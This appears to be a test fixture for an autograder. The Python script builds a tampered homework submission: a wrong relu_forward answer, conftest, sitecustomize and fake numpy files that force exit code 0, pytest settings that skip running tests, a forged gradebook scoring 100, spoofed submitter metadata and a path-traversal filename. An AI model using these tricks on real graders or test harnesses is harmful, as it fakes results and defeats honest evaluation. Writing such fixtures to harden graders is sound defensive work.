# /// attack
# tries = "hands in tests, a manifest, settings and a gradebook of its own"
# question = "relu_forward"
# made = true
# ///
import json

FILES = {
    "assignment.toml": "title = 'mine'\nsubmit = ['x']\n[[questions]]\nid = 'x'\n",
    "test_public.py": "def test_all(): pass\n",
    "tests/test_relu_forward.py": "def test_all(student): pass\n",
    "conftest.py": "raise SystemExit(0)\n",
    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
    "sitecustomize.py": "raise SystemExit(0)\n",
    "numpy.py": "raise SystemExit(0)\n",
    "03_pooling_and_losses.py": "def relu_forward(x): raise SystemExit\n",
    "gradebook.sqlite": "100",
    "submission_metadata.yml": "a:\n  :submitters:\n  - :sid: somebody\n",
    "../pwned.ipynb": "",
}


def build(folder, honest):
    book = json.loads(honest)
    for cell in book["cells"]:
        if cell["metadata"].get("course", {}).get("question") == "relu_forward":
            cell["source"] = "def relu_forward(x):\n    return x"
    (folder / "03_pooling_and_losses.ipynb").write_text(json.dumps(book))
    for name, text in FILES.items():
        if ".." not in name:
            (folder / name).parent.mkdir(exist_ok=True)
            (folder / name).write_text(text)
